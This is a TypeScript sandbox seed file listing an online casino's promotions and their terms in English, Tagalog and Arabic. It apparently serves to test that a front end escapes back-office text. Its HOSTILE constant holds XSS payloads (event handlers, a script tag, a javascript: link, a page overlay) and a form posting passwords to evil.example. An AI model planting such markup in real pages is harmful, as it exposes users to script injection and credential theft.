/**
 * The sandbox's promotions (SPEC 2.9, 3): categories and promotions with their terms in each language a
 * merchant may list. EN is the platform's own text (the promotions table); the others are translations
 * it answers when asked in that language (issue 18 point 1).
 */

type Action = readonly ['none' | 'url' | 'route', string];

/** Category code and its name per language, in menu order. */
export const PROMO_CATEGORIES: readonly (readonly [code: string, names: Readonly<Record<string, string>>])[] = [
  ['welcome', { EN: 'Welcome', TY: 'Pagbati', AR: 'الترحيب' }],
  ['daily', { EN: 'Daily', TY: 'Araw-araw', AR: 'يومية' }],
  ['slots', { EN: 'Slots', TY: 'Slots', AR: 'السلوتس' }],
  ['live', { EN: 'Live Casino', TY: 'Live Casino', AR: 'الكازينو المباشر' }],
  ['player_rank_rules', { EN: 'VIP Rank', TY: 'Ranggo ng VIP', AR: 'مستويات VIP' }],
  ['sports', { EN: 'Sports', TY: 'Palakasan', AR: 'الرياضة' }],
];

interface PromoText { title: string; lead: string }

export interface PromotionSeed {
  category: string;
  imageRequired: 'Y' | 'N';
  remarkRequired: 'Y' | 'N';
  noExpiry: 0 | 1;
  /** Where the go button leads when no application is needed. */
  action: Action;
  /** The member signs up for it first (SPEC 7 Promotion: sign-up promotion join). */
  joinRequired?: true;
  text: Readonly<Record<string, PromoText>>;
}

const NONE: Action = ['none', ''];

export const PROMOTIONS: readonly PromotionSeed[] = [
  { category: 'welcome', imageRequired: 'Y', remarkRequired: 'Y', noExpiry: 0, action: NONE, text: {
    EN: { title: '100% Welcome Bonus', lead: 'Double your first deposit up to 5,000.' },
    TY: { title: '100% Welcome Bonus', lead: 'Doblehin ang unang deposito hanggang 5,000.' },
    AR: { title: 'مكافأة ترحيب 100%', lead: 'ضاعف إيداعك الأول حتى 5,000.' } } },
  { category: 'daily', imageRequired: 'N', remarkRequired: 'N', noExpiry: 1, action: ['route', '/m/voucherCenter'], joinRequired: true, text: {
    EN: { title: 'Daily Reload 10%', lead: 'Every day, 10% extra on your first deposit of the day.' },
    TY: { title: 'Araw-araw na Reload 10%', lead: 'Araw-araw, dagdag na 10% sa unang deposito ng araw.' },
    AR: { title: 'إعادة شحن يومية 10%', lead: 'كل يوم، 10% إضافية على أول إيداع لك في اليوم.' } } },
  { category: 'slots', imageRequired: 'Y', remarkRequired: 'N', noExpiry: 0, action: NONE, joinRequired: true, text: {
    EN: { title: 'Slot Tournament', lead: 'Climb the leaderboard of the week and share the prize pool.' },
    TY: { title: 'Slot Tournament', lead: 'Umakyat sa leaderboard ng linggo at makibahagi sa premyo.' },
    AR: { title: 'بطولة السلوتس', lead: 'تصدّر ترتيب الأسبوع وشارك في مجموع الجوائز.' } } },
  { category: 'live', imageRequired: 'N', remarkRequired: 'Y', noExpiry: 0, action: NONE, text: {
    EN: { title: 'Live Casino Cashback', lead: 'Get 1.2% of your live casino turnover back every week.' },
    TY: { title: 'Live Casino Cashback', lead: 'Makakuha ng 1.2% ng iyong live casino turnover bawat linggo.' },
    AR: { title: 'استرداد نقدي للكازينو المباشر', lead: 'استرد 1.2% من رهاناتك في الكازينو المباشر كل أسبوع.' } } },
  { category: 'player_rank_rules', imageRequired: 'N', remarkRequired: 'N', noExpiry: 1, action: ['route', '/m/member/benefits'], text: {
    EN: { title: 'VIP Rank Rules', lead: 'Rise through the VIP levels for bigger birthday and upgrade bonuses.' },
    TY: { title: 'Mga Patakaran ng VIP Rank', lead: 'Umakyat sa mga antas ng VIP para sa mas malaking bonus.' },
    AR: { title: 'قواعد مستويات VIP', lead: 'ارتقِ في مستويات VIP لتحصل على مكافآت أكبر.' } } },
  { category: 'sports', imageRequired: 'Y', remarkRequired: 'Y', noExpiry: 0, action: NONE, text: {
    EN: { title: 'Parlay Insurance', lead: 'Lose a parlay of 5 legs or more by one leg and get your stake back.' },
    TY: { title: 'Parlay Insurance', lead: 'Matalo ang parlay ng 5 o higit pa dahil sa isang leg at maibabalik ang taya.' },
    AR: { title: 'تأمين الرهان المركب', lead: 'اخسر رهاناً مركباً من 5 مباريات أو أكثر بمباراة واحدة واسترد رهانك.' } } },
  { category: 'slots', imageRequired: 'N', remarkRequired: 'N', noExpiry: 1, action: ['route', '/m/slot-games'], text: {
    EN: { title: 'Free Spins Friday', lead: 'Deposit on Friday and get 20 free spins on the game of the week.' },
    TY: { title: 'Free Spins tuwing Biyernes', lead: 'Mag-deposito sa Biyernes at makakuha ng 20 free spins.' },
    AR: { title: 'لفات مجانية يوم الجمعة', lead: 'أودع يوم الجمعة واحصل على 20 لفة مجانية في لعبة الأسبوع.' } } },
  { category: 'daily', imageRequired: 'N', remarkRequired: 'Y', noExpiry: 1, action: NONE, text: {
    EN: { title: 'Daily Check-in Gift', lead: 'Sign in seven days in a row for a mystery gift.' },
    TY: { title: 'Regalo sa Araw-araw na Check-in', lead: 'Mag-sign in nang pitong sunod na araw para sa isang regalo.' },
    AR: { title: 'هدية تسجيل الحضور اليومي', lead: 'سجّل حضورك سبعة أيام متتالية لتحصل على هدية مفاجئة.' } } },
  { category: 'welcome', imageRequired: 'Y', remarkRequired: 'N', noExpiry: 0, action: NONE, text: {
    EN: { title: 'First Deposit Screenshot Bonus', lead: 'Send a screenshot of your first deposit for an extra 8%.' },
    TY: { title: 'Bonus sa Screenshot ng Unang Deposito', lead: 'Ipadala ang screenshot ng unang deposito para sa dagdag na 8%.' },
    AR: { title: 'مكافأة لقطة الإيداع الأول', lead: 'أرسل لقطة شاشة لإيداعك الأول واحصل على 8% إضافية.' } } },
  { category: 'live', imageRequired: 'Y', remarkRequired: 'Y', noExpiry: 0, action: NONE, text: {
    EN: { title: 'Baccarat Winning Streak', lead: 'Win eight baccarat hands in a row and claim up to 8,888.' },
    TY: { title: 'Sunod-sunod na Panalo sa Baccarat', lead: 'Manalo ng walong sunod na kamay sa baccarat at kumuha ng hanggang 8,888.' },
    AR: { title: 'سلسلة انتصارات الباكارات', lead: 'اربح ثماني جولات باكارات متتالية واحصل على ما يصل إلى 8,888.' } } },
];

const TERMS: Readonly<Record<string, (currency: string, turnover: number) => readonly string[]>> = {
  EN: (c, x) => [`Minimum deposit ${c}100.`, `Turnover x${x} before withdrawal.`, 'One claim per member, household and device.'],
  TY: (c, x) => [`Pinakamababang deposito ${c}100.`, `Turnover x${x} bago mag-withdraw.`, 'Isang claim bawat miyembro, tahanan at device.'],
  AR: (c, x) => [`الحد الأدنى للإيداع ${c}100.`, `حجم رهان x${x} قبل السحب.`, 'مطالبة واحدة لكل عضو وأسرة وجهاز.'],
};

/** What a hostile back office could type into a promotion: the front end must show the words, never run them. */
const HOSTILE = '<p onclick="window.__sandboxXss = 4">Terms apply.</p><img src="x" onerror="window.__sandboxXss = 5"><script>window.__sandboxXss = 6</script>'
  + '<a href="javascript:window.__sandboxXss = 7">More</a><div style="position:fixed;inset:0;z-index:9999">Claim now</div><form action="https://evil.example/"><input name="password"></form>';

/** The HTML terms of promotion `index` in `language`; the last promotion of every language carries hostile markup. */
export function promotionContent(index: number, language: string, currency: string): string {
  const promo = PROMOTIONS[index];
  const text = promo?.text[language];
  const terms = TERMS[language];
  if (promo === undefined || text === undefined || terms === undefined) return '';
  const items = terms(currency, index + 5).map((t) => `<li>${t}</li>`).join('');
  return `<p><b>${text.lead}</b></p><ol>${items}</ol>${index === PROMOTIONS.length - 1 ? HOSTILE : ''}`;
}
